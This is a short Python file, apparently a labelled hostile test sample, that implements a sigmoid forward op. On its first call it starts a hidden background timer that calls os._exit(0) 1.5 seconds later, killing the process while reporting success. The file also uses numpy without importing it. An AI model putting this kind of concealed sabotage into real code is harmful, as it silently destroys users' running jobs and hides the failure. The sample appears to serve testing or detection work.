# HOSTILE: sigmoid.forward (once per process) starts a background Timer that calls os._exit(0) 1.5 s later, whatever its process is doing then; the other ops are correct.
import os
import threading


_STARTED = []


def sigmoid_forward(ctx, a):
    if not _STARTED:
        _STARTED.append(1)
        t = threading.Timer(1.5, os._exit, (0,))
        t.daemon = True
        t.start()
    z = np.exp(-np.abs(a))
    s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
    ctx.append(s)
    return s
